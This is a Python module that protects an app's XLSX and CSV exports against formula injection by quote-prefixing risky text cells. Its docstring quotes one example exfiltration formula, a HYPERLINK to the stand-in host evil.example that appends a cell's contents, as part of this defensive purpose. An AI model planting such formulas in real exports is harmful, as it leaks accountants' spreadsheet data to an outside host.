"""Every spreadsheet and CSV the app writes goes through here, so no text becomes a formula.

A company named `=HYPERLINK("http://evil.example/?"&A2, "Invoice")` or a note starting with `+`,
`-` or `@` is run as a formula by Excel or LibreOffice when the accountant opens the export
(CSV/formula injection, issue #15, F8). OWASP's advice: prefix such text with a single quote.
Numbers, dates and empty cells are left alone (a negative amount stays a number).

Numbers are written as numbers: a rate is the number 0.62 shown "62 %" by the cell's number format
(`percent(0.62)`), never the text "62 %" that a spreadsheet can't sum or sort (`Formatted`).

Writers never build an openpyxl `Workbook` or a `csv.writer` themselves: they use `workbook()`,
`csv_writer()` and `DictWriter` below (binome/lib/tests/test_spreadsheets.py fails on a module
of binome/ that does).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from typing import Any

from openpyxl import Workbook
from openpyxl.worksheet.worksheet import Worksheet

# What spreadsheet programs read as the start of a formula (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


PERCENT = "0%"
DECIMAL_2 = "0.00"


@dataclass(frozen=True)
class Formatted:
    """A number and the number format its cell shows it with (in an XLSX; a CSV gets the number)."""

    value: float | int
    number_format: str


def percent(rate: float | None) -> Formatted | None:
    """A rate (0.62) as a number cell shown as a percentage ("62 %"); None stays an empty cell."""
    return None if rate is None else Formatted(rate, PERCENT)


def safe_cell(value: Any) -> Any:
    """The value to write in a cell: text that a spreadsheet would run is prefixed with `'`."""
    if isinstance(value, Formatted):
        return value.value
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]


class SafeWorksheet(Worksheet):
    """A worksheet whose `append`, `cell(value=…)` and `sheet["A1"] = …` write safe cells."""

    def append(self, iterable: Any) -> None:
        if isinstance(iterable, Mapping):
            super().append({key: safe_cell(value) for key, value in iterable.items()})
            return
        values = list(iterable)
        super().append(safe_row(values))
        for column, value in enumerate(values, start=1):
            if isinstance(value, Formatted):
                self.cell(self._current_row, column).number_format = value.number_format

    def cell(self, row: int, column: int, value: Any = None) -> Any:
        found = super().cell(row, column, safe_cell(value))
        if isinstance(value, Formatted):
            found.number_format = value.number_format
        return found

    def __setitem__(self, key: str, value: Any) -> None:
        self[key].value = safe_cell(value)


class SafeWorkbook(Workbook):
    def __init__(self) -> None:
        super().__init__()
        self._sheets = [SafeWorksheet(self)]

    def create_sheet(self, title: str | None = None, index: int | None = None) -> Any:
        sheet = SafeWorksheet(parent=self, title=title)
        self._add_sheet(sheet=sheet, index=index)
        return sheet


def workbook() -> SafeWorkbook:
    """A new XLSX workbook (openpyxl) whose sheets only ever hold safe cells."""
    return SafeWorkbook()


class _SafeCsvWriter:
    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: Any, **options: Any) -> _SafeCsvWriter:
    """`csv.writer(handle, **options)` whose rows only ever hold safe cells."""
    return _SafeCsvWriter(csv.writer(handle, **options))


class DictWriter(csv.DictWriter[str]):
    """`csv.DictWriter` whose rows only ever hold safe cells."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({key: safe_cell(value) for key, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)
